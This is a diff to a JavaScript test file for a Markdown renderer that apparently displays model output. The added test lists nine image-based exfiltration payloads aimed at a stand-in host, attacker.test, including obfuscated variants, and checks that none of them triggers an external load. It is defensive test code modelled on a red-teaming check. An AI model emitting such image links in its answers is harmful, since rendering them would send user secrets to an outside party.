@@ -49,6 +49,24 @@ it.each(cases.map((one) => one.model_output))('%j', (text) => {
   }
 });
 
+/** Ways of sending out by an image that promptfoo's `data-exfil` looks for (MIT), and their relatives. */
+it.each([
+  '![](https://attacker.test/collect?data=SECRET)',
+  '![done][ref]\n\n[ref]: https://attacker.test/collect?data=SECRET',
+  '[![done](https://attacker.test/collect?data=SECRET)](https://attacker.test/)',
+  '![done](//attacker.test/collect?data=SECRET)',
+  '![done](/\\attacker.test/collect?data=SECRET)',
+  '![done](  https&#58;//attacker.test/collect?data=SECRET)',
+  '<img src="https://attacker.test/collect?data=SECRET">',
+  '<picture><source srcset="https://attacker.test/collect?data=SECRET"></picture>',
+  '![done](data:image/svg+xml;base64,PHN2Zz4=)',
+])('loads nothing of %j', (text) => {
+  const html = renderToStaticMarkup(<Markdown text={text} />);
+  const loading = tagsOf(html).filter((tag) => /^<(img|source|picture)/.test(tag));
+  // An address that Markdown itself has made a path of this site leads nowhere else.
+  expect(loading.filter((tag) => !/ src="\/(?![/\\])/.test(tag))).toEqual([]);
+});
+
 it('shows what is harmless as it is meant', () => {
   const html = renderToStaticMarkup(<Markdown text={'**bold** `code`\n\n| a | b |\n|---|---|\n| 1 | 2 |'} />);
   expect(html).toContain('<strong>bold</strong>');
